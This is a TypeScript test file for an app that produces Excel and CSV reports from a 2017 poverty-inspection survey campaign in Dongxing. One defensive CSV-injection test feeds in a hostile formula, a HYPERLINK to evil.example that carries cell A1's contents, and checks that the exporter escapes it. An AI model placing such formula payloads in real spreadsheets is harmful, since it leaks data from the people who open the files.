import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { MemoryStore } from '../../app/memory-store';
import { ManualClock } from '../../app/messaging';
import { buildSummaries } from '../../app/summaries';
import seed from '../../campaigns/dongxing-2017.json';
import { parseCampaign } from '../../domain/campaign-schema';
import type { PhotoEvidence } from '../../domain/evidence';
import type { Person } from '../../domain/model';
import { type SummaryModels, TABLE4_ROWS } from '../../domain/tables/index';
import { csvField } from '../../reports/raw';
import { addPrintableSheet, bodyRow, headerRow, mergedLine, paginate } from '../../reports/sheet';
import { CHAT_TEXT_LIMIT, table4Text } from '../../reports/text';
import { COMPARISON_SHEET, COUNTY_LEVEL, summaryWorkbook, TITLES } from '../../reports/xlsx';
import { rawCsv, rawWorkbook } from '../support/raw-export';
import { storeSurveys } from '../support/stored-surveys';
import {
  campaign,
  householdSurveys,
  officeSurvey,
  problems,
  surveyOf,
  villageSurveys,
} from './table4.fixture';

const office: Person = {
  id: 'office-1',
  grants: [{ role: 'office' }],
  lastUpdateId: 0,
  session: {},
  version: 1,
  createdAt: '2017-10-30T00:00:00.000Z',
  updatedAt: '2017-10-30T00:00:00.000Z',
};

let models: SummaryModels;
let wb: ExcelJS.Workbook;

async function load(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(
    bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer,
  );
  return book;
}

/** The sheet's rows as text arrays (1-based like Excel, index 0 unused). */
function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const out: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row, n) => {
    out[n] = (row.values as unknown[]).slice(1);
  });
  return out;
}

function rowWithLabel(ws: ExcelJS.Worksheet, label: string): unknown[] | undefined {
  return rowsOf(ws).find((r) => r?.[1] === label);
}

beforeAll(async () => {
  const store = new MemoryStore();
  await storeSurveys(store, campaign, [...householdSurveys, ...villageSurveys, officeSurvey]);
  for (const p of problems) await store.putProblem(p);
  const clock = new ManualClock(new Date('2017-11-04T12:00:00.000Z'));
  models = await buildSummaries({ store, clock }, office, campaign, 'city');
  wb = await load(await summaryWorkbook(models, campaign));
});

describe('the summary workbook', () => {
  it('has 表3, 表4 and 表5 for the city and then for each town', () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      '表3-全市',
      '表4-全市',
      '表4-分镇对比',
      '表5-全市',
      '表3-东兴镇',
      '表4-东兴镇',
      '表5-东兴镇',
      '表3-江平镇',
      '表4-江平镇',
      '表5-江平镇',
      '表3-马路镇',
      '表4-马路镇',
      '表5-马路镇',
      '表5附-延期清单',
    ]);
  });

  it('lays out 表4 as the plan: merged title, the 督查镇名称 line, 类别/项目/单位/数量/备注', () => {
    const ws = wb.getWorksheet('表4-东兴镇')!;
    expect(ws.getCell('A1').value).toBe(TITLES.table4);
    expect(ws.getCell('A1').value).toBe('表4 督查任务完成情况汇总表');
    expect(ws.getCell('E1').isMerged).toBe(true);
    expect(ws.getCell('A2').value).toBe('督查镇名称:东兴镇  督查单位:第一组');
    expect(rowsOf(ws)[3]).toEqual(['类别', '项目', '单位', '数量', '备注']);
    expect(ws.getCell('A3').border?.top?.style).toBe('thin');
  });

  it("holds the town's labels and numbers", () => {
    const ws = wb.getWorksheet('表4-东兴镇')!;
    expect(rowWithLabel(ws, '3.抽查户总数')?.slice(2, 4)).toEqual(['户', 7]);
    expect(rowWithLabel(ws, '参与人数')?.slice(2, 4)).toEqual(['人', 13]);
    expect(rowWithLabel(ws, '疑似漏评户数')?.[3]).toBe(3);
    expect(rowWithLabel(ws, '疑似错退户数')?.slice(3, 5)).toEqual([1, '另有疑似返贫户1户']);
    const cell = ws.getCell(`A${rowsOf(ws).findIndex((r) => r?.[1] === '1.未实现两不愁户数')}`);
    expect(cell.value).toBe('主要目标任务完成情况\n贫困户"八有一超"情况');
  });

  it('holds the city-wide figures, the office figures among them', () => {
    const ws = wb.getWorksheet('表4-全市')!;
    expect(ws.getCell('A2').value).toBe('督查镇名称:全市  督查单位:第一组、第二组、第三组');
    expect(rowWithLabel(ws, '3.抽查户总数')?.[3]).toBe(9);
    expect(rowWithLabel(ws, '1.涉农资金整合计划数')?.slice(2, 4)).toEqual(['万元', 5000]);
    expect(rowWithLabel(ws, '2.有稳固住房达标情况')?.[3]).toBe('未达标');
    expect(rowWithLabel(ws, '研判该县能否顺利完成今年扶贫目标任务')?.slice(3, 5)).toEqual([
      '不能',
      '部分计划脱贫户住房尚未完工',
    ]);
  });

  it('lays out 表3 with 序号/类别/问题, one problem a row under its category', () => {
    const ws = wb.getWorksheet('表3-全市')!;
    expect(ws.getCell('A1').value).toBe('表3 督查发现问题汇总表');
    const rows = rowsOf(ws);
    expect(rows[3]).toEqual(['序号', '类别', '问题']);
    expect(rows[4]).toEqual(['一', '精准识别(漏评方面)', '']);
    expect(rows[5]).toEqual([1, '', '东兴镇河洲村:河洲村王五家生活困难,未纳入贫困户,疑似漏评']);
    expect(rows.some((r) => r?.[1] === '资金使用方面')).toBe(true);
    expect(rows.some((r) => r?.[0] === '四' && r[1] === '其他方面(资料、档案、内生动力等)')).toBe(true);
    const town = rowsOf(wb.getWorksheet('表3-东兴镇')!);
    expect(town[5]).toEqual([1, '', '河洲村:河洲村王五家生活困难,未纳入贫困户,疑似漏评']);
  });

  it('lists each problem in 表5 with measures, responsible unit, deadline, status and check result', () => {
    const rows = rowsOf(wb.getWorksheet('表5-东兴镇')!);
    expect(rows[3]).toEqual([
      '序号',
      '问题类别',
      '问题',
      '整改措施',
      '责任人',
      '整改时限',
      '整改状态',
      '抽查结果',
    ]);
    const fund = rows.find((r) => typeof r?.[2] === 'string' && (r[2] as string).includes('产业奖补资金'));
    expect(fund).toEqual([
      expect.any(Number),
      '精准帮扶·资金使用方面',
      '江那村:江那村产业奖补资金未按时拨付到户',
      '11月6日前拨付到户',
      '东兴镇财政所',
      '2017-11-09',
      '整改到位',
      '已整改到位',
    ]);
    const city = rowsOf(wb.getWorksheet('表5-全市')!);
    expect(city.some((r) => r?.[0] === '江平镇(1个问题)')).toBe(true);
    // A problem on the written list: its 整改时限 is the planned date, and the check result says so.
    const delayed = city.find((r) => r?.[7] === '已列入书面清单,计划2017-12-15前完成');
    expect(delayed?.[5]).toBe('2017-12-15');
    expect(delayed?.[6]).toBe('需较长时间整改');
  });

  it('lists the problems on the written list, with the reason and the planned date', () => {
    const rows = rowsOf(wb.getWorksheet('表5附-延期清单')!);
    expect(rows[3]).toEqual(['序号', '镇', '问题', '延期原因', '计划完成时间']);
    expect(rows[4]).toEqual([
      1,
      '江平镇',
      '交东村:交东村贫困户档案资料不齐全',
      '档案需逐户补齐,工作量大',
      '2017-12-15',
    ]);
    expect(rows.filter((r) => typeof r?.[0] === 'number')).toHaveLength(1);
  });

  it('prints on A4, one page wide, repeating the header row', () => {
    for (const ws of wb.worksheets) {
      expect(ws.pageSetup.paperSize, ws.name).toBe(9);
      expect(ws.pageSetup.fitToPage, ws.name).toBe(true);
      expect(ws.pageSetup.fitToWidth, ws.name).toBe(1);
      expect(ws.pageSetup.printTitlesRow, ws.name).toBe('3:3');
      expect(ws.getColumn(2).width, ws.name).toBeGreaterThan(15);
      expect(ws.getCell('C4').alignment?.wrapText, ws.name).toBe(true);
    }
    expect(wb.getWorksheet('表4-全市')!.pageSetup.orientation).toBe('portrait');
    expect(wb.getWorksheet('表5-全市')!.pageSetup.orientation).toBe('landscape');
  });

  it("keeps the seed's caption in each table's title", () => {
    expect(wb.getWorksheet('表3-江平镇')!.getCell('A1').value).toBe('表3 督查发现问题汇总表');
    expect(wb.getWorksheet('表4-江平镇')!.getCell('A1').value).toBe('表4 督查任务完成情况汇总表');
    expect(wb.getWorksheet('表5-江平镇')!.getCell('A1').value).toBe('表5 反馈问题整改情况抽查汇总表');
  });

  it('centres words in 数量 (达标, 不能) and keeps numbers right-aligned', () => {
    const ws = wb.getWorksheet('表4-全市')!;
    const cellOf = (label: string) =>
      ws.getCell(
        rowsOf(ws).findIndex((r) => r?.[1] === label),
        4,
      );
    expect(cellOf('2.有稳固住房达标情况').value).toBe('未达标');
    expect(cellOf('2.有稳固住房达标情况').alignment?.horizontal).toBe('center');
    expect(cellOf('研判该县能否顺利完成今年扶贫目标任务').alignment?.horizontal).toBe('center');
    expect(cellOf('3.抽查户总数').value).toBe(9);
    expect(cellOf('3.抽查户总数').alignment?.horizontal).toBe('right');
  });

  it('writes every cell and every column in 宋体', () => {
    for (const ws of wb.worksheets) {
      ws.columns.forEach((col, i) => {
        expect(col.font?.name, `${ws.name} column ${i + 1}`).toBe('宋体');
      });
      ws.eachRow({ includeEmpty: true }, (row) =>
        row.eachCell({ includeEmpty: true }, (cell) => {
          expect(cell.font?.name, `${ws.name}!${cell.address}`).toBe('宋体');
        }),
      );
    }
  });

  it('numbers the pages of each table from 1, with its own page count', () => {
    for (const ws of wb.worksheets) {
      expect(ws.pageSetup.firstPageNumber, ws.name).toBe(1);
      expect(ws.headerFooter.oddFooter, ws.name).toMatch(/^&C第 &P 页 共 [1-9]\d* 页$/);
    }
  });

  it('ends each table with the signature line to fill by hand', () => {
    for (const ws of wb.worksheets) {
      const texts = rowsOf(ws).map((r) => r?.[0]);
      expect(texts, ws.name).toContain(
        '填表人:__________    审核人:__________    联系电话:__________    填报日期:__________    单位盖章:__________',
      );
    }
  });

  it("prints the campaign's own signature line when it configures one", async () => {
    const signed = parseCampaign({
      ...seed,
      signatureLine: [
        { label: '填表人', value: '潘治阳' },
        { label: '联系电话', value: '0770-7688888' },
        { label: '单位盖章' },
      ],
    });
    const book = await load(await summaryWorkbook(models, signed));
    const texts = rowsOf(book.getWorksheet('表4-东兴镇')!).map((r) => r?.[0]);
    expect(texts).toContain('填表人:潘治阳    联系电话:0770-7688888    单位盖章:__________');
    expect(() => parseCampaign({ ...seed, signatureLine: [{ label: '' }] })).toThrow(/signatureLine/);
  });
});

describe('the 分镇对比 sheet of the city workbook', () => {
  const towns = ['东兴镇', '江平镇', '马路镇'];

  it('has a column per town and 合计 beside every 表4 row, under the 表4 labels', () => {
    const ws = wb.getWorksheet(COMPARISON_SHEET)!;
    expect(ws.getCell('A1').value).toBe('表4 督查任务完成情况分镇对比表');
    const rows = rowsOf(ws);
    expect(rows[3]).toEqual(['类别', '项目', '单位', ...towns, '合计', '备注']);
    const labels = rows.slice(4, 4 + TABLE4_ROWS.length).map((r) => r?.[1]);
    expect(labels).toEqual(models.city!.table4.rows.map((r) => r.label));
    // Only a city build has it.
    expect(wb.worksheets.filter((w) => w.name.includes('分镇对比'))).toHaveLength(1);
  });

  it("shows each town's 表4 figures, which add up to 合计, the city's 表4 figure", () => {
    const rows = rowsOf(wb.getWorksheet(COMPARISON_SHEET)!);
    const byTown = models.towns.map((t) => new Map(t.table4.rows.map((r) => [r.id, r.value])));
    let additive = 0;
    models.city!.table4.rows.forEach((cityRow, i) => {
      const row = rows[4 + i]!;
      const perTown = row.slice(3, 6);
      const total = row[6];
      expect(total ?? null, cityRow.label).toEqual(cityRow.value ?? null);
      const def = TABLE4_ROWS.find((d) => d.id === cityRow.id)!;
      if (def.rule.kind === 'office') {
        expect(perTown, cityRow.label).toEqual(['—', '—', '—']);
        expect(row[7]).toBe(COUNTY_LEVEL);
        return;
      }
      expect(perTown, cityRow.label).toEqual(byTown.map((t) => t.get(cityRow.id)));
      if (def.rule.kind === 'special' && def.rule.name !== 'missedHouseholds') return;
      expect(
        (perTown as number[]).reduce((a, b) => a + b, 0),
        cityRow.label,
      ).toBe(total);
      additive++;
    });
    expect(additive).toBeGreaterThan(40);
    const households = rows.find((r) => r?.[1] === '3.抽查户总数');
    expect(households?.slice(3, 7)).toEqual([7, 2, 0, 9]);
  });

  it("says why the city's figure of 参与人数 is not the towns' sum", () => {
    const rows = rowsOf(wb.getWorksheet(COMPARISON_SHEET)!);
    const people = rows.find((r) => r?.[1] === '参与人数')!;
    expect((people.slice(3, 6) as number[]).reduce((a, b) => a + b, 0)).not.toBe(people[6]);
    expect(people[7]).toBe('全市为扶贫办填报数');
  });
});

describe('the page breaks of a summary sheet', () => {
  /** A sheet of `groups` runs of rows 20 pt high under a 20 pt title and header, a page holding 200 pt. */
  function sheetOf(groups: number[]) {
    const book = new ExcelJS.Workbook();
    const ws = addPrintableSheet(book, 't', [20, 40], { orientation: 'portrait', headerRow: 2 });
    mergedLine(ws, 1, 2, '标题');
    headerRow(ws, 2, ['类别', '项目']);
    ws.getRow(1).height = 20;
    ws.getRow(2).height = 20;
    let r = 3;
    const spans = groups.map((n, g) => {
      const first = r;
      for (let k = 0; k < n; k++) bodyRow(ws, r++, [k === 0 ? `组${g}` : '', `行${r}`]).height = 20;
      return { first, last: r - 1 };
    });
    return { ws, spans };
  }
  const breaksOf = (ws: ExcelJS.Worksheet) =>
    ((ws as unknown as { rowBreaks: { id: number }[] }).rowBreaks ?? []).map((b) => b.id);

  it('moves a group that would cross the end of a page to the next page whole', () => {
    // Page 1: title, header, group 0 (4 rows) = 120 pt; group 1 (5 rows, 100 pt) does not fit.
    const { ws, spans } = sheetOf([4, 5, 2]);
    expect(paginate(ws, 2, spans, 200)).toBe(2);
    // The break comes after row 6, the last of group 0; page 2 repeats the header (20 pt) then
    // holds groups 1 and 2 (140 pt).
    expect(breaksOf(ws)).toEqual([6]);
  });

  it('continues a group taller than a page on the next, where its label is repeated', () => {
    const { ws, spans } = sheetOf([1, 20]);
    const continued: number[] = [];
    const pages = paginate(
      ws,
      2,
      spans.map((s) => ({ ...s, continueAt: (row: number) => continued.push(row) })),
      200,
    );
    // Group 1 (400 pt) starts on page 1 after group 0 (there is room), fills it (rows 4–10), then
    // page 2 (rows 11–19) and ends on page 3 (rows 20–23), each continuation announced.
    expect(breaksOf(ws)).toEqual([10, 19]);
    expect(continued).toEqual([11, 20]);
    expect(pages).toBe(3);
  });
});

describe('the raw data', () => {
  const surveys = [...householdSurveys, ...villageSurveys, officeSurvey];

  it('is a workbook of one row per survey, one column per question under its Chinese label', async () => {
    const raw = await load(await rawWorkbook(campaign, surveys, new Map([['insp-1', '黄海军']])));
    expect(raw.worksheets.map((w) => w.name)).toEqual(['农户调查表', '村级调查表', '县级数据', '现场照片']);
    const ws = raw.getWorksheet('农户调查表')!;
    const rows = rowsOf(ws);
    const header = rows[2] as string[];
    expect(header.slice(0, 3)).toEqual(['问卷编号', '镇', '村']);
    expect(header).toContain('1.1 农户姓名');
    expect(header).toContain('2.3 截止2017年9月底家庭人均纯收入(元)');
    expect(header).toContain('提示标记');
    expect(rows.length - 3).toBe(householdSurveys.length);
    const zhang = rows.find((r) => r?.[header.indexOf('1.1 农户姓名')] === '张三')!;
    expect(zhang[header.indexOf('镇')]).toBe('东兴镇');
    expect(zhang[header.indexOf('村')]).toBe('大田村');
    expect(zhang[header.indexOf('检查组')]).toBe('第一组');
    expect(zhang[header.indexOf('调查员编号')]).toBe('insp-1');
    // The raw data names who filled the survey, not only their number.
    expect(zhang[header.indexOf('调查员')]).toBe('黄海军');
    // A real date (Excel filters it by year, month and day), the campaign's wall clock.
    expect(zhang[header.indexOf('提交时间')]).toEqual(new Date('2017-10-31T10:00:00Z'));
    expect(ws.getRow(3).getCell(header.indexOf('提交时间') + 1).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(zhang[header.indexOf('1.2 农户类型')]).toBe('今年计划脱贫户');
    expect(zhang[header.indexOf('2.1 是否已能做到不愁吃')]).toBe('否');
    expect(zhang[header.indexOf('2.3 截止2017年9月底家庭人均纯收入(元)')]).toBe(5200);
    expect(zhang[header.indexOf('提示标记')]).toContain('未实现"两不愁"');
    const vs = rowsOf(raw.getWorksheet('村级调查表')!);
    expect(vs[2]).toContain('1.1 村类型');
    expect(vs.some((r) => r?.includes('已退出贫困村'))).toBe(true);
  });

  it("carries each visit's evidence: photo count, location, distance, flags and reasons; a sheet lists the photos", async () => {
    const photo = (n: number, extra: Partial<PhotoEvidence> = {}): PhotoEvidence => ({
      fileId: `f${n}`,
      uniqueId: `u${n}`,
      key: `evidence/${campaign.id}/hh-x/u${n}.jpg`,
      size: 204_800,
      mime: 'image/jpeg',
      at: '2017-10-31T03:15:00.000Z',
      by: 'insp-1',
      rev: 3,
      ...extra,
    });
    const visited = surveyOf(
      'household',
      'datian',
      { h1_name: '甲', h1_type: 'non_poor' },
      {
        householdId: 'D1',
        evidence: {
          photos: [photo(1, { questionId: 'h2_safe_housing', caption: '住房外观' }), photo(2)],
          location: {
            lat: 21.534,
            lon: 107.925,
            at: '2017-10-31T03:20:00.000Z',
            by: 'insp-1',
            distanceKm: 0.4,
          },
        },
      },
    );
    const unseen = surveyOf(
      'household',
      'datian',
      { h1_name: '乙', h1_type: 'non_poor' },
      {
        householdId: 'D2',
        evidence: {
          photos: [],
          photoReason: '农户不同意拍照',
          location: {
            lat: 21.6,
            lon: 107.925,
            at: '2017-10-31T03:40:00.000Z',
            by: 'insp-1',
            distanceKm: 7.8,
          },
        },
      },
    );
    const raw = await load(
      await rawWorkbook(campaign, [visited, unseen, officeSurvey], new Map([['insp-1', '黄海军']])),
    );
    const rows = rowsOf(raw.getWorksheet('农户调查表')!);
    const header = rows[2] as string[];
    const col = (name: string) => header.indexOf(name);
    expect(header.slice(-6)).toEqual(['照片数', '纬度', '经度', '距村(公里)', '证据标记', '证据说明']);
    const a = rows.find((r) => r?.[col('农户编号')] === 'D1')!;
    const b = rows.find((r) => r?.[col('农户编号')] === 'D2')!;
    expect([a[col('照片数')], a[col('纬度')], a[col('经度')], a[col('距村(公里)')]]).toEqual([
      2, 21.534, 107.925, 0.4,
    ]);
    expect(a[col('证据标记')] ?? '').toBe('');
    expect(b[col('照片数')]).toBe(0);
    expect(b[col('证据标记')]).toBe('现场照片少于要求、定位距村 7.8 公里,超出范围');
    expect(b[col('证据说明')]).toBe('无照片:农户不同意拍照');
    // The office's figures carry no evidence columns.
    expect(rowsOf(raw.getWorksheet('县级数据')!)[2]).not.toContain('照片数');

    const sheet = rowsOf(raw.getWorksheet('现场照片')!);
    expect(sheet[1]).toEqual([
      '问卷编号',
      '镇',
      '村',
      '农户编号',
      '序号',
      '发送时间',
      '关联题目',
      '说明',
      '发送人',
      '大小(KB)',
      '存档文件',
    ]);
    // An empty text is an empty cell (the streaming writer leaves it out).
    expect(sheet.slice(2).map((r) => Array.from({ length: 8 }, (_, i) => r?.[3 + i] ?? ''))).toEqual([
      [
        'D1',
        1,
        new Date('2017-10-31T11:15:00Z'),
        '2.6 有无安全住房',
        '住房外观',
        '黄海军',
        200,
        '东兴镇/大田村/农户-D1/u1.jpg',
      ],
      [
        'D1',
        2,
        new Date('2017-10-31T11:15:00Z'),
        '整份问卷',
        '',
        '黄海军',
        200,
        '东兴镇/大田村/农户-D1/u2.jpg',
      ],
      ['D2', '', '', '', '无照片:农户不同意拍照', '', '', ''],
    ]);
  });

  it('is a CSV that starts with a BOM and has Chinese headers and labels', async () => {
    const csv = await rawCsv(campaign, surveys, 'household');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.toString('utf8').slice(1);
    const [header, ...lines] = text.trimEnd().split('\r\n');
    expect(header).toMatch(/^问卷编号,镇,村,村编号,农户编号,检查组/);
    expect(header).toContain('1.1 农户姓名');
    expect(lines).toHaveLength(householdSurveys.length);
    expect(text).not.toMatch(/,(yes|no|has|none),/);
    // The two names 林一 reported travel in one field.
    expect(text).toContain('王五、赵六');
  });

  it('keeps an 18-digit household id as text for Excel, and as it is with --values', async () => {
    const long = surveyOf(
      'household',
      'malu',
      { h1_name: '甲', h1_type: 'non_poor', h2_food: 'yes' },
      {
        householdId: '450681010123456789',
      },
    );
    const forExcel = (await rawCsv(campaign, [long], 'household')).toString('utf8');
    expect(forExcel).toContain(',="450681010123456789",');
    const values = (await rawCsv(campaign, [long], 'household', new Map(), { values: true })).toString(
      'utf8',
    );
    const [header, row] = values.slice(1).trimEnd().split('\r\n');
    expect(header).toMatch(/^surveyId,town,village,villageId,householdId,/);
    const cells = row!.split(',');
    const col = (id: string) => header!.split(',').indexOf(id);
    expect(cells[col('householdId')]).toBe('450681010123456789');
    // Choice ids, not labels.
    expect(cells[col('h2_food')]).toBe('yes');
    expect(cells[col('h1_type')]).toBe('non_poor');
  });

  it('writes a list of names with 、 under --values too, so the import reads two people, not one', async () => {
    const naming = surveyOf('household', 'malu', {
      h1_name: '甲',
      h1_type: 'non_poor',
      h4_unlisted_names: ['王五', '赵六'],
    });
    const values = (await rawCsv(campaign, [naming], 'household', new Map(), { values: true })).toString(
      'utf8',
    );
    expect(values).toContain(',王五、赵六,');
  });

  it('writes a multi-select as its joined answer and one 1/0 column per option', async () => {
    const village = surveyOf('village', 'datian', {
      v1_type: 'exited_poor',
      v2_public_services: ['office', 'clinic'],
    });
    const text = (await rawCsv(campaign, [village], 'village')).toString('utf8').slice(1);
    const [header, row] = text.trimEnd().split('\r\n');
    const labels = header!.split(',');
    const at = labels.findIndex((l) => l.startsWith('2.8 '));
    expect(labels.slice(at + 1, at + 4)).toEqual(['2.8 办公场所', '2.8 宣传栏', '2.8 卫生室']);
    expect(row!.split(',').slice(at, at + 4)).toEqual(['办公场所、卫生室', '1', '0', '1']);
    const values = (await rawCsv(campaign, [village], 'village', new Map(), { values: true })).toString(
      'utf8',
    );
    expect(values).toContain(',office clinic,1,0,1,');
  });

  it('quotes fields with commas, quotes or line breaks', async () => {
    const odd = surveyOf('household', 'malu', {
      h1_name: '甲',
      h1_type: 'non_poor',
      h4_opinions: '道路,要修"好"\n谢谢',
    });
    const text = (await rawCsv(campaign, [odd], 'household')).toString('utf8');
    expect(text).toContain('"道路,要修""好""\n谢谢"');
  });

  it('opens a text that looks like a formula as text (OWASP CSV injection), numbers stay numbers', async () => {
    const hostile = surveyOf('household', 'malu', {
      h1_name: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      h1_type: 'non_poor',
      h4_opinions: '@SUM(1+2)',
    });
    const text = (await rawCsv(campaign, [hostile], 'household')).toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
    expect(text).toContain(`'@SUM(1+2)`);
    expect(text).not.toMatch(/(^|,)[=+@-]/m);
    expect(['=1+2', '+1', '-1', '@a', '\tx', '\rx', '普通'].map(csvField)).toEqual([
      "'=1+2",
      "'+1",
      "'-1",
      "'@a",
      "'\tx",
      `"'\rx"`,
      '普通',
    ]);
    expect(csvField(-5)).toBe('-5');
  });
});

describe('the chat text of a 表4', () => {
  it('lists only the rows with something to report, under their headings, within the chat limit', () => {
    const t4 = models.towns.find((t) => t.townId === 'dongxing')!.table4;
    const text = table4Text(t4, '东兴镇 表4 督查任务完成情况');
    expect(text.split('\n')[0]).toBe('东兴镇 表4 督查任务完成情况');
    expect(text).toContain('【督查基本情况】');
    expect(text).toContain('3.抽查户总数:7户');
    expect(text).toContain('  其中 今年计划脱贫户:1户');
    expect(text).toContain('疑似错退户数:1户(另有疑似返贫户1户)');
    expect(text).not.toContain('非贫困村');
    expect(text).not.toMatch(/:0[户人个]/);
    expect(text.length).toBeLessThanOrEqual(CHAT_TEXT_LIMIT);
  });

  it('cuts a long text at a line and says where the rest is', () => {
    const t4 = models.city!.table4;
    const long = { rows: t4.rows.map((r) => ({ ...r, label: r.label.repeat(20) })) };
    const text = table4Text(long, '全市');
    expect(text.length).toBeLessThanOrEqual(CHAT_TEXT_LIMIT);
    expect(text.endsWith('完整数据见附件表格)')).toBe(true);
  });

  it('says so when there is nothing yet', () => {
    const empty = models.towns.find((t) => t.townId === 'malu')!.table4;
    const text = table4Text(empty, '马路镇');
    // The roster rows always have a value; the survey rows have none yet.
    expect(text).not.toContain('抽查户总数');
  });
});
